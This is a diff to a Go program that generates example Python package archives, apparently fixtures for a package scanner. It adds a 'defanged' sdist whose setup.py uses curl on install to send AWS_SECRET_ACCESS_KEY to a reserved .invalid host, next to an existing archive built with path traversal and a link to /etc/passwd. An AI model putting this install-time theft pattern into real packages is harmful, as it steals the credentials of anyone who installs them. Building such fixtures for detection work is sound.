@@ -1,8 +1,10 @@
 // Command gen writes the example distributions in examples/: a clean
-// wheel and sdist of a tiny project, and an sdist packed the way hostile
+// wheel and sdist of a tiny project, an sdist packed the way hostile
 // uploads are (path traversal, a link to /etc/passwd, a duplicated
-// setup.py, an archive appended after the end). Run from the repository
-// root: go run ./examples/gen
+// setup.py, an archive appended after the end), and the classic
+// install-time theft, defanged: its setup.py sends AWS_SECRET_ACCESS_KEY
+// with curl to a host under the reserved .invalid domain, which can never
+// resolve. Run from the repository root: go run ./examples/gen
 package main
 
 import (
@@ -49,7 +51,22 @@ func main() {
 	)
 	hostile = append(hostile, targz(member{name: "hostile-0.1/hidden.py", body: "print('appended after the end')\n"})...)
 	write(dir, "hostile-0.1.tar.gz", hostile)
+	write(dir, "stealer-1.0.tar.gz", targz(
+		member{name: "stealer-1.0/PKG-INFO", body: "Metadata-Version: 2.1\nName: stealer\nVersion: 1.0\nSummary: Defanged example of an install-time credential theft\n"},
+		member{name: "stealer-1.0/setup.py", body: stealerSetup},
+	))
 }
+
+// stealerSetup is the classic install-time theft, defanged: the collector
+// is under .invalid (RFC 2606), a name that never resolves.
+const stealerSetup = `import os
+from setuptools import setup
+
+# Runs on "pip install", before anything is imported.
+os.system("curl -s -d $AWS_SECRET_ACCESS_KEY https://collector.example.invalid/k")
+
+setup(name="stealer", version="1.0")
+`
 
 func wheel() []byte {
 	files := []member{
